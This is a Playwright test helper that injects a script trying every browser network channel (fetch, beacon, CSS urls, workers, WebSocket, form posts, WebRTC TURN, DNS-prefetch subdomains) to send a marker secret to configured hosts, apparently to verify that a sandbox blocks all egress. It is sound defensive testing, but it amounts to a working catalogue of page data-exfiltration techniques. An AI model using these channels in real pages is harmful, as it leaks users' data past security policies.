/** Egress attempts: a script that tries every network API of a page. */
import type { Page } from '@playwright/test'

/** Marker for personal data: it is part of every attempt, and must not arrive at a listener. */
export const SECRET = 'calf-cramp-at-three'

export interface EgressTargets {
  /** Hosts for HTTP attempts; the path of each request names its API. */
  readonly http: readonly string[]
  /** Hosts for preconnect, which opens a connection without a request. */
  readonly preconnect: readonly string[]
  readonly webrtc: readonly string[]
  readonly webtransport: readonly string[]
}

/** Runs every attempt at every host, and waits until each has ended in the page. */
export const attemptEgress = (page: Page, targets: EgressTargets): Promise<void> =>
  page.evaluate(runAttempts, { ...targets, secret: SECRET })

/** Script source of the attempts, for a page that Playwright does not control. */
export const makeEgressScript = (targets: EgressTargets): string =>
  `(${runAttempts})(${JSON.stringify({ ...targets, secret: SECRET })})`

/** Injected into the page, so it refers to nothing outside itself. */
async function runAttempts({
  http,
  preconnect,
  webrtc,
  webtransport,
  secret,
}: EgressTargets & { secret: string }) {
  /** Upper limit for attempts that end without any event, in ms. A limit, not a sleep: all others end it earlier. */
  const LIMIT_MS = 8_000
  /** Resolves on the target's first load, error or other given event. */
  const settled = (target: EventTarget, ...events: string[]) =>
    new Promise<void>(resolve => {
      for (const name of ['load', 'error', ...events])
        target.addEventListener(name, () => resolve(), { once: true })
    })
  const tried: Promise<unknown>[] = []
  const attempt = (action: () => unknown) => {
    try {
      tried.push(Promise.resolve(action()).catch(() => {}))
    } catch {
      // A synchronous refusal is a refusal too.
    }
  }
  const add = (name: string, attributes: Record<string, string>, ...events: string[]) =>
    attempt(() => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      const done = settled(element, ...events)
      document.body.append(element)
      return done
    })
  /** Adds an element that fires no event at its end. */
  const addSilent = (name: string, attributes: Record<string, string>) =>
    attempt(() => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
    })
  const addStyle = (css: string) =>
    attempt(() => {
      const style = document.createElement('style')
      style.textContent = css
      document.head.append(style)
      for (const name of ['styled', 'masked'])
        document.body.append(
          Object.assign(document.createElement('div'), { className: name, textContent: name }),
        )
    })

  for (const host of http) {
    const at = (way: string) => `http://${host}/${way}?${secret}`
    attempt(() => fetch(at('fetch'), { mode: 'no-cors' }))
    attempt(() => fetch(at('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: secret }))
    attempt(() => navigator.sendBeacon(at('beacon'), secret))
    attempt(() => {
      const request = new XMLHttpRequest()
      request.open('POST', at('xhr'))
      request.send(secret)
      return settled(request)
    })
    add('img', { src: at('image') })
    add('img', { srcset: `${at('srcset')} 1x` })
    add('script', { src: at('script') })
    add('script', { type: 'module', src: at('module') })
    attempt(() => import(/* @vite-ignore */ at('import')))
    add('link', { rel: 'stylesheet', href: at('stylesheet') })
    add('link', { rel: 'prefetch', href: at('prefetch') })
    add('link', { rel: 'preload', as: 'image', href: at('preload') })
    add('link', { rel: 'modulepreload', href: at('modulepreload') })
    addSilent('link', { rel: 'icon', href: at('icon') })
    addSilent('link', { rel: 'manifest', href: at('manifest') })
    addSilent('link', { rel: 'dns-prefetch', href: `http://${secret}.example.org/` })
    addStyle(
      `@import url("${at('style-import')}");
       @font-face { font-family: secret; src: url("${at('font')}"); }
       .styled { font-family: secret; background-image: url("${at('background')}"); cursor: url("${at('cursor')}"), auto; }
       .masked { list-style-image: url("${at('list-style')}"); mask-image: url("${at('mask')}"); }`,
    )
    attempt(() => new FontFace('other', `url("${at('font-face')}")`).load())
    add('video', { src: at('video') }, 'loadeddata')
    add('audio', { src: at('audio') }, 'loadeddata')
    add('object', { data: at('object') })
    addSilent('embed', { src: at('embed') })
    add('iframe', { src: at('frame') })
    addSilent('iframe', { srcdoc: `<img src="${at('srcdoc')}">` })
    attempt(() =>
      new EventSource(at('events')).addEventListener('error', event => (event.target as EventSource).close()),
    )
    attempt(() => settled(new WebSocket(at('socket').replace('http', 'ws')), 'open', 'close'))
    attempt(() => settled(new Worker(at('worker')), 'message'))
    attempt(() => settled(new SharedWorker(at('shared-worker')), 'message'))
    attempt(() => navigator.serviceWorker.register(at('service-worker')))
    attempt(() => {
      const code = `fetch(${JSON.stringify(at('in-worker'))}, { mode: 'no-cors' }).finally(() => postMessage(0))`
      return settled(new Worker(URL.createObjectURL(new Blob([code]))), 'message')
    })
    attempt(() => window.open(at('window')))
    attempt(() => {
      const link = Object.assign(document.createElement('a'), { href: '#here', ping: at('ping') })
      document.body.append(link)
      link.click()
    })
    attempt(() => {
      const frame = Object.assign(document.createElement('iframe'), { name: `target-${host}` })
      document.body.append(frame)
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: at('form'), target: frame.name })
      document.body.append(form)
      form.submit()
    })
    attempt(() => {
      const rules = document.createElement('script')
      rules.type = 'speculationrules'
      rules.textContent = JSON.stringify({
        prefetch: [{ urls: [at('speculation')], eagerness: 'immediate' }],
      })
      document.head.append(rules)
    })
  }
  for (const host of preconnect) addSilent('link', { rel: 'preconnect', href: `http://${host}/` })
  for (const host of webtransport) attempt(() => new WebTransport(`https://${host}/${secret}`).closed)
  attempt(async () => {
    const account = { username: secret, credential: secret }
    const servers = webrtc.flatMap(host => [
      { urls: `turn:${host}?transport=udp`, ...account },
      { urls: `turn:${host}?transport=tcp`, ...account },
      { urls: `stun:${host}` },
    ])
    // Second realm: removing the constructor from this window alone would leave the frame's.
    const frame = document.body.appendChild(document.createElement('iframe'))
    for (const { RTCPeerConnection: Connection } of [
      window,
      frame.contentWindow as Window & typeof globalThis,
    ]) {
      const connection = new Connection({
        iceServers: [...servers, { urls: `stun:${secret}.example.org:3478` }],
      })
      connection.createDataChannel('out')
      await connection.setLocalDescription(await connection.createOffer())
      // Always reached: without an answer ICE gathering completes by its own time limit of some seconds.
      await new Promise<void>(resolve => {
        const look = () => connection.iceGatheringState === 'complete' && resolve()
        connection.addEventListener('icegatheringstatechange', look)
        look()
      })
      connection.close()
    }
  })
  const limit = new Promise(resolve => setTimeout(resolve, LIMIT_MS))
  await Promise.race([Promise.all(tried), limit])
}
